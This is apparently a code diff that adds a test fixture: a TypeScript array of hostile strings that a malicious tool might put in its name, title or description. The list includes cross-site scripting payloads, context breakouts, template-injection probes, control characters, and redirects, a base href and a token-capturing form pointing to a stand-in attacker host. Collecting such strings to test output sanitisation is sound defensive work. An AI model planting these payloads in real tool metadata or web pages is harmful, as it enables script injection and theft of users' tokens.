@@ -1,0 +1,25 @@
+// What a hostile tool may have for its name, title or description, so that a page runs it, loads it or falls apart.
+
+export const PAYLOADS: readonly string[] = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg/onload=alert(1)>',
+  '"><script>alert(1)</script>',
+  `'><img src=x onerror=alert(1)>`,
+  '</title><script>alert(1)</script>',
+  '</style><script>alert(1)</script>',
+  '</code></p></li></ul><iframe src=javascript:alert(1)>',
+  '<a href="javascript:alert(1)">x</a>',
+  'javascript:alert(1)',
+  '<!--<script>alert(1)</script>-->',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<link rel=stylesheet href=https://evil.example/x.css>',
+  '<form action=https://evil.example/><input name=token autofocus>',
+  '<details open ontoggle=alert(1)>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '{{7*7}}<%= 7*7 %><? 7*7 ?>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '\u202e<script>\u2028alert(1)</script>\u001b[31m\u0000',
+]
